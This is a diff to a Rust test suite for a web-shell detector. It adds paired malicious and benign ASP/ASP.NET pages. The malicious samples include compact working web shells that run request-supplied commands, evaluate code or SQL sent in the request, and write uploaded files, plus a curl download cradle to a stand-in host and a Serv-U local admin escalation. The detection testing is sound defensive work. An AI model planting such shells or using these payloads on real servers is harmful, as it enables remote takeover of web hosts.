@@ -239,6 +239,46 @@ fn cases() -> Vec<Case> {
             "<%@ Page Language=\"C#\" %>\n<% string id = Request.QueryString[\"id\"];\nstring sort = Request.QueryString[\"sort\"];\nstring cs = ConfigurationManager.ConnectionStrings[\"main\"].ConnectionString;\nusing (var db = new SqlConnection(cs)) { db.Open();\n var cmd = new SqlCommand(sql, db);\n cmd.Parameters.AddWithValue(\"@id\", id);\n var r = cmd.ExecuteReader(); } %>\n",
         ),
         case(
+            "EXRAY_Request_Process_Flow",
+            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Diagnostics\" %>\n<% string x = Context.Request[\"c\"]; Process.Start(x); %>\n",
+            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Diagnostics\" %>\n<% string report = Request[\"r\"]; Process.Start(Server.MapPath(\"~/bin/rebuild-index.exe\")); Response.Write(Server.HtmlEncode(report)); %>\n",
+        ),
+        case(
+            "EXRAY_NET_Reflection_Request",
+            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Reflection\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n string[] q = Request.Form[\"q\"].Split('|');\n Assembly a = Assembly.LoadWithPartialName(q[0]);\n object o = Activator.CreateInstance(a.GetType(q[1]));\n o.GetType().GetMethod(q[2]).Invoke(o, null);\n}\n</script>\n",
+            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Reflection\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n string id = Request.QueryString[\"id\"];\n object w = Activator.CreateInstance(Type.GetType(ConfigurationManager.AppSettings[\"widget\"]));\n w.GetType().GetMethod(\"Render\").Invoke(w, new object[] { id });\n}\n</script>\n",
+        ),
+        case(
+            "EXRAY_SQL_Console_Flow",
+            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nstring Cs() { return \"server=\" + ViewState[\"h\"] + \";uid=\" + ViewState[\"u\"]; }\nvoid Login(object s, EventArgs e) { ViewState[\"h\"] = txtHost.Text; ViewState[\"u\"] = txtUser.Text; }\nvoid Run(object s, EventArgs e) {\n using (var c = new SqlConnection(Cs())) { c.Open();\n var cmd = new SqlCommand(txtQuery.Text, c); grid.DataSource = cmd.ExecuteReader(); grid.DataBind(); }\n}\n</script>\n",
+            "<%\nSSIP = Request(\"SSIP\")\nUID = Request(\"UID\")\nSet c = Server.CreateObject(\"ADODB.Connection\")\nc.Open \"Driver={SQL Server};Server=\" & SSIP & \";Uid=\" & UID\nq = \"ALTER TABLE orders ADD note varchar(50) NULL\"\nc.Execute(q)\n%>\n",
+        ),
+        case(
+            "EXRAY_SQL_Query_From_Request",
+            "<%\nq = Request(\"sql\")\nSet conn = Server.CreateObject(\"ADODB.Connection\")\nconn.Open \"Provider=SQLOLEDB;Server=10.0.0.5;Uid=sa;Pwd=x\"\nSet rs = conn.Execute(q)\nDo Until rs.EOF\nResponse.Write rs(0) & \"<br>\"\nrs.MoveNext\nLoop\n%>\n",
+            "<%\nid = Request(\"id\")\nSet conn = Server.CreateObject(\"ADODB.Connection\")\nconn.Open Application(\"cs\")\nsql = \"SELECT title FROM news WHERE id=\" & CLng(id)\nSet rs = conn.Execute(sql)\nResponse.Write Server.HTMLEncode(rs(0))\n%>\n",
+        ),
+        case(
+            "EXRAY_Upload_Unchecked_Name",
+            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nprotected void Go(object s, EventArgs e) {\n if (f.HasFile) f.SaveAs(Server.MapPath(\"~/files/\") + f.FileName);\n}\n</script>\n<form runat=\"server\"><asp:FileUpload ID=\"f\" runat=\"server\" /><asp:Button runat=\"server\" OnClick=\"Go\" /></form>\n",
+            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nprotected void Go(object s, EventArgs e) {\n string ext = System.IO.Path.GetExtension(f.FileName).ToLower();\n if (f.HasFile && ext == \".jpg\") f.SaveAs(Server.MapPath(\"~/photos/\") + Guid.NewGuid() + ext);\n}\n</script>\n<form runat=\"server\"><asp:FileUpload ID=\"f\" runat=\"server\" /></form>\n",
+        ),
+        case(
+            "EXRAY_Named_Pipe_Relay",
+            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.IO.Pipes\" %>\n<%\nvar p = new NamedPipeClientStream(\".\", \"msagent_12\", PipeDirection.InOut);\np.Connect(3000);\nbyte[] d = Request.BinaryRead(Request.ContentLength);\np.Write(d, 0, d.Length);\nvar b = new byte[65536]; int n = p.Read(b, 0, b.Length);\nResponse.BinaryWrite(b.Take(n).ToArray());\n%>\n",
+            "<%@ Page Language=\"C#\" %>\n<%\n// print spooler status page\nvar sc = new System.ServiceProcess.ServiceController(\"Spooler\");\nResponse.Write(sc.Status.ToString());\n%>\n",
+        ),
+        case(
+            "EXRAY_Page_Starts_Download_Cradle",
+            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Diagnostics\" %>\n<%\n    Process.Start(\"curl -k https://hooks.example.net/0b1d\");\n%>\n",
+            "<%@ Page Language=\"C#\" %>\n<%\n// see https://curl.se/docs/ for the API client\nResponse.Write(\"curl https://api.example.net/v1/items\");\n%>\n",
+        ),
+        case(
+            "EXRAY_ServU_Local_Admin_Escalation",
+            "<%\nSet x = Server.CreateObject(\"Microsoft.XMLHTTP\")\nx.Open \"POST\", \"http://127.0.0.1:43958/Admin\", False\nx.Send \"USER LocalAdministrator\" & vbCrLf & \"SITE MAINTENANCE\" & vbCrLf\n%>\n",
+            "<%\n' FTP service settings page\nport = 21\nResponse.Write \"FTP server listens on port \" & port\n%>\n",
+        ),
+        case(
             "EXRAY_Script_Page_Writer_Request",
             "<%\nbody = Request.Form(\"t\")\nSet fs = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet o = fs.CreateTextFile(Server.MapPath(\"pic.asp\"))\no.Write body\no.Close\n%>\n",
             "<%\nnote = Request.Form(\"t\")\nSet fs = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet o = fs.OpenTextFile(Server.MapPath(\"notes.txt\"), 8, True)\no.WriteLine Server.HTMLEncode(note)\no.Close\n%>\n",
@@ -461,7 +501,7 @@ fn cases() -> Vec<Case> {
         case(
             "EXRAY_Upload_Request_Named",
             "<%@ Page Language=\"C#\" %>\n<% if (Request.Files.Count > 0) Request.Files[0].SaveAs(Server.MapPath(\"./\") + Request[\"n\"]); %>\n",
-            "<%@ Page Language=\"C#\" %>\n<% var f = Request.Files[0];\nf.SaveAs(Server.MapPath(\"~/uploads/\") + System.IO.Path.GetFileName(f.FileName)); %>\n",
+            "<%@ Page Language=\"C#\" %>\n<% var f = Request.Files[0];\nif (System.IO.Path.GetExtension(f.FileName) == \".pdf\")\n f.SaveAs(Server.MapPath(\"~/uploads/\") + System.IO.Path.GetFileName(f.FileName)); %>\n",
         ),
         case(
             "EXRAY_JScript_Eval_Alias",
@@ -834,6 +874,34 @@ fn data_flow_tells_applications_from_shells() {
     ];
     for (rule, page) in loud {
         assert!(hits(page).contains(rule), "{rule} missed:\n{page}");
+    }
+}
+
+/// What the data-flow checks follow into a process, a script engine or a database, in the
+/// spellings shells use: each page must trip its rule; the quiet ones (an upgrade page that
+/// connects where its form says and runs its own SQL, a page that runs a fixed tool) must not.
+#[test]
+fn flows_into_processes_script_engines_and_databases() {
+    let loud = [
+        ("EXRAY_Request_Process_Flow", "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System.Diagnostics; using System.Web;\npublic class H : IHttpHandler {\n public void ProcessRequest(HttpContext context) { var Request = context.Request;\n string x = Request.Headers[\"c\"]; Process.Start(x);\n }\n public bool IsReusable { get { return false; } }\n}\n"),
+        ("EXRAY_Request_Process_Flow", "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Go(object s, EventArgs e) {\n var p = new Process(); p.StartInfo.FileName = \"cmd.exe\";\n p.StartInfo.Arguments = \"/c \" + txtCmd.Text;\n p.Start();\n}\n</script>\n"),
+        ("EXRAY_Request_Process_Flow", "<%\nSet w = GetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\")\nc = Request.Form(\"c\")\nw.Create c, Null, Null, pid\n%>\n"),
+        ("EXRAY_Eval_Request_Flow", "<%\nSet sc = Server.CreateObject(\"MSScriptControl.ScriptControl\")\nsc.Language = \"VBScript\"\nsc.AddCode Request.Form(\"c\")\n%>\n"),
+        ("EXRAY_Eval_Request_Flow", "<%@ Language=\"JScript\" %>\n<%\nvar f = new Function(String(Request.QueryString(\"c\"))); f();\n%>\n"),
+        ("EXRAY_Eval_Request_Direct", "<%Execute Request.ServerVariables(\"HTTP_Z\")%>"),
+    ];
+    for (rule, page) in loud {
+        assert!(hits(page).contains(rule), "{rule} missed:\n{page}");
+    }
+    let quiet = [
+        // an upgrade page: the form names the server, the SQL is the page's own
+        "<%\nSSIP = Request(\"SSIP\")\nUID = Request(\"UID\")\nSet c = Server.CreateObject(\"adodb.connection\")\nc.Open \"Driver={SQL Server};Server=\" & SSIP & \";Uid=\" & UID\nq = \"ALTER TABLE orders ADD note varchar(50) NULL\"\nc.Execute(q)\n%>\n",
+        // a COM object's Run that is no process: a script control running the page's own code
+        "<%\nSet sc = Server.CreateObject(\"MSScriptControl.ScriptControl\")\nsc.AddCode \"function total(a, b) { return a + b; }\"\nResponse.Write sc.Run(\"total\", 1, 2)\n%>\n",
+    ];
+    for page in quiet {
+        let h = hits(page);
+        assert!(h.is_empty(), "{h:?} on:\n{page}");
     }
 }
 
